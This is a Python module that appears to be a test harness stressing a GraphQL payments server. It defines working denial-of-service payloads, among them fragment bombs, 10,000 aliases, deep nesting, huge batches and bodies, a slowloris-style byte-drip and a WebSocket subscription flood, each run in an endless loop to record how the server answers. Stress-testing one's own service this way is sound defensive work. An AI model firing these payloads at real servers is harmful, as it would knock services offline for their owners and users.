"""The malicious set: the worst that comes to mind, each document a little different from the one before."""

import json
import socket
from collections.abc import Callable, Iterator, Mapping
from itertools import count
from time import sleep, time_ns
from typing import Any, TypeAlias

import httpx
from websockets.sync.client import connect
from websockets.typing import Subprotocol

Attack: TypeAlias = Callable[[str, dict[str, str]], Iterator[str]]
"""By a server's address and headers; goes on without end, and tells what each request came to."""

NORMAL = "{ payments(first: 20) { totalCount nodes { id descricao valorTotal dataVencimento situacao } } }"
NUMBER = b"another one"
"""What differs from one request to the next."""
CONNECTIONS = 50
AT_ONCE = 50
"""Operations on one WebSocket."""


def _query(text: str, **more: object) -> bytes:
    return json.dumps({"query": f"# {NUMBER.decode()}\n{text}", **more}).encode()


def _bomb(size: int) -> str:
    links = (f"fragment f{n} on Viewer {{ name ...f{n + 1} ...f{n + 1} }}" for n in range(size))
    return f"{{ me {{ ...f0 }} }} {' '.join(links)} fragment f{size} on Viewer {{ name }}"


def _circle(size: int) -> str:
    links = (f"fragment f{n} on Viewer {{ name ...f{(n + 1) % size} }}" for n in range(size))
    return f"{{ me {{ ...f0 }} }} {' '.join(links)}"


def _aliases(number: int) -> str:
    return "{" + " ".join(f"a{n}: __typename" for n in range(number)) + "}"


def _levels(number: int) -> str:
    return "{" + "...{" * number + "__typename" + "}" * (number + 1)


def _directives(number: int) -> str:
    return "{ me { name " + "@skip(if: true) " * number + "} }"


LISTED = "query($f: PaymentFilter) { payments(filter: $f) { totalCount } }"
LONG = {"f": {"externalId": ["x"] * 10_000}}
WRONG = {"persistedQuery": {"version": 1, "sha256Hash": "0" * 64}}
BODIES: Mapping[str, bytes] = {
    "an ordinary query": json.dumps({"query": NORMAL}).encode(),
    "ordinary queries, all new": _query(NORMAL),
    "fragments that double 30 times": _query(_bomb(30)),
    "fragments that double 99 times": _query(_bomb(99)),
    "10,000 aliases": _query(_aliases(10_000)),
    "600 aliases": _query(_aliases(600)),
    "50 aliases, all new": _query(_aliases(50)),
    "the same field 900 times": _query("{ me {" + " name" * 900 + "} }"),
    "a circle of 90 fragments": _query(_circle(90)),
    "10,000 levels": _query("{ me {" * 10_000),
    "150 levels": _query(_levels(150)),
    "10,000 directives": _query(_directives(10_000)),
    "300 directives": _query(_directives(300)),
    "100 unknown fields": _query("{ me {" + " ".join(f"nam{n}" for n in range(100)) + "} }"),
    "a list of 10,000": _query(LISTED, variables=LONG),
    "a batch of 10,000": b"[" + b",".join([b'{"query":"{ me { name } }"}'] * 10_000) + b"]",
    "hashes that are wrong": _query(_aliases(600), extensions=WRONG),
    "JSON 100,000 deep": b'{"query":' + b"[" * 100_000,
    "a body of 30 MB": b'{"query": "' + b"x" * 30_000_000 + b'"}',
}


def _posted(body: bytes, times: int = 1) -> Attack:
    """Each so many times."""

    def attack(address: str, headers: dict[str, str]) -> Iterator[str]:
        numbers = count(time_ns())
        with httpx.Client(base_url=address, headers=headers, timeout=60) as client:
            for number in numbers:
                try:
                    answer = client.post("/graphql", content=body.replace(NUMBER, b"%d" % (number // times)))
                except httpx.TransportError:
                    yield "cut"
                else:
                    yield f"{answer.status_code} {_outcome(answer.json().get('errors'))}"

    return attack


def _outcome(errors: list[dict[str, Any]] | None) -> str:
    if not errors:
        return "answered"
    told = errors[0]["extensions"]
    return " ".join(filter(None, (told["code"], told.get("limit"))))


def _nothing(_address: str, _headers: dict[str, str]) -> Iterator[str]:
    """What the measure makes of no attack at all."""
    while True:
        sleep(0.1)
        yield "nothing"


def _dripping(address: str, _headers: dict[str, str]) -> Iterator[str]:
    """Bodies that never end, a byte at a time."""
    host, port = address.removeprefix("http://").split(":")
    head = f"POST /graphql HTTP/1.1\r\nhost: {host}\r\ncontent-type: application/json\r\n"
    lines = [socket.create_connection((host, int(port))) for _ in range(CONNECTIONS)]
    for line in lines:
        line.sendall(f"{head}content-length: 1000\r\n\r\n{{".encode())
    while True:
        for line in lines:
            line.sendall(b" ")
        yield "waited for"
        sleep(0.2)


def _flood(address: str, headers: dict[str, str]) -> Iterator[str]:
    """As many operations at once as one WebSocket takes, one after the other."""
    document = json.loads(BODIES["600 aliases"])["query"]
    numbers = count(time_ns())
    with connect(
        f"{address.replace('http', 'ws', 1)}/graphql",
        subprotocols=[Subprotocol("graphql-transport-ws")],
        additional_headers={"authorization": headers["authorization"]},
    ) as line:
        line.send('{"type": "connection_init"}')
        line.recv()
        while True:
            for _ in range(AT_ONCE):
                number = str(next(numbers))
                payload = {"query": document.replace(NUMBER.decode(), number)}
                line.send(json.dumps({"type": "subscribe", "id": number, "payload": payload}))
            for _ in range(AT_ONCE):
                yield _outcome(json.loads(line.recv())["payload"])


ATTACKS: Mapping[str, Attack] = {
    "nothing": _nothing,
    f"{CONNECTIONS} bodies, a byte at a time": _dripping,
    **{name: _posted(body) for name, body in BODIES.items()},
    "150 levels, each twice": _posted(BODIES["150 levels"], times=2),
    f"a WebSocket, {AT_ONCE} times 600 aliases": _flood,
}
